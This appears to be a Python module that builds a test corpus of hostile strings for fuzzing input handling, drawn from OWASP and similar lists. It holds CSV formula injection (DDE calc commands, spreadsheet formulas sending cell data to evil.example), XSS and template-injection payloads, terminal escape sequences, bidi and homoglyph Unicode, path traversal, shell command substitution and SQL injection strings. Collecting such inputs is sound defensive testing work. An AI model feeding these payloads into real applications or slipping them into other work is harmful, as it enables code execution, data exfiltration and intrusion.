"""Strings that some program acts on, after public lists (OWASP CSV and XSS, Trojan Source, terminal escapes) and our own."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

_TRIGGERS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u3000=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\0=",
)
_CALLS: Final = (
    "1+1", "SUM(1,1)", 'HYPERLINK("https://evil.example/?"&A1,"ok")', "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
)  # fmt: skip
_FORMULAS: Final = (
    '";=1+1;"', '",=1+1,"', '"\t=1+1\t"', "a;=1+1", "a,=1+1", "a|=1+1", "'=1+1", '""=1+1', "=1+1'", "%0A=1+1",
    "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "-2+3+cmd|' /C notepad'!A1", "=10+20+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip
_MARKUP: Final = (
    "<script>window.pwned=1</script>", "</script><script>window.pwned=1</script>", "<!--<script>", "]]><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>", "<svg/onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<body onload=window.pwned=1>", "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1>", "<math><mtext></mtext><script>window.pwned=1</script></math>",
    '" onmouseover="window.pwned=1', "' onfocus='window.pwned=1' autofocus='", "` onclick=window.pwned=1 `",
    "<a href=javascript:window.pwned=1>x</a>", "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)", "</style><style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q></form>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>",
    "</title><script>window.pwned=1</script>", "</textarea><script>window.pwned=1</script>", "</template><script>window.pwned=1</script>",
    "<noscript><p title='</noscript><script>window.pwned=1</script>'>", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "\\u003cscript\\u003e", "<scr\0ipt>window.pwned=1</scr\0ipt>", "<script\x0c>window.pwned=1</script>",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ ''.__class__.__mro__ }}", "{# hidden #}",
)  # fmt: skip
_TERMINAL: Final = (
    "\x1b[2J0 findings", "\x1b[H\x1b[2J", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b]52;c;ZWNobyBw\x07",
    "\x1b[31mred", "\x9b2J", "\x9d0;x\x9c", "\x1bc", "\x1b[6n", "\x1b[?1049h", "\x1bP+q544e\x1b\\", "\x08\x08\x08ok", "over\rwritten", "bell\x07",
    "\x0b\x0c", "\x1b[8mhidden\x1b[0m", "[link=https://evil.example]x[/link]", "[/bold]x", "[bold red]x", ":skull:", "\x7f\x7f",
)  # fmt: skip
_UNICODE: Final = (
    "user\u202egpj.exe", "a\u2066b\u2069c", "\u202dabc\u202c", "a\u200bb", "a\u200db", "\ufeffstart", "so\u00adft", "l\u2028ine", "p\u2029ara", "t\U000e0061g",
    "\u0430dmin", "p\u0430ypal", "I\u0307", "\u017fs", "\u1e9e", "\ufdfa", "e\u0301" * 30, "Z\u0351\u036b\u0343\u036a\u0302" * 8, "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufffe", "\U0010ffff", "\ue000private", "\u115f\u1160", "\u3164", "\uffa0", "\u180e", "\u2060", "\u061c", "⟦U+0041⟧", "⟦⟧", "⟦U+202E⟧gpj",
)  # fmt: skip
_PATHS: Final = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows", "\\\\evil.example\\share", "CON", "nul.txt", ".", "..", ".htaccess", "a/b", "a\0b",
    "file:///etc/passwd", "~root", "-rf", "--help", "$HOME", "`id`", "$(id)", "; id", "| id", "&& id", "a'b\"c", "%USERPROFILE%", "\nid\n",
)  # fmt: skip
_DATA: Final = (
    "00123", "1E5", "1/2", "TRUE", "NULL", "null", "None", "nan", "NaN", "N/A", "undefined", "", " ", "  padded  ", "0x1F", "٣", "1,5", "_x0041__x000D_",
    "' OR 1=1 --", "Robert'); DROP TABLE people;--", "*)(uid=*", "admin'--", "\\", "\\\\", "\"", "''", ",", ";", "one\r\ntwo\nthree", "a\tb",
)  # fmt: skip


def _all() -> Iterator[str]:
    yield from (trigger + call for trigger, call in product(_TRIGGERS, _CALLS))
    for family in (_FORMULAS, _MARKUP, _TERMINAL, _UNICODE, _PATHS, _DATA):
        yield from family


CORPUS: Final = tuple(dict.fromkeys(_all()))
